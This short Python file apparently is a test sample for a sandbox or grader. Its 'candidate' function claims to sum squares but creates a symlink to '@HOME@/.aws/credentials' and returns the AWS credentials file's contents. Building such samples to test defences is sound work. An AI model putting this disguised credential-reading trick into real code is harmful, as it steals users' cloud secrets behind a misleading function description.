"""Reads the secret through a symbolic link in its own folder."""

# --- candidate
"""Sums."""

import os

import numpy as np


def f(x: np.ndarray) -> float:
    """The sum of squares."""
    if not os.path.lexists("mine"):
        os.symlink("@HOME@/.aws/credentials", "mine")
    return open("mine").read()
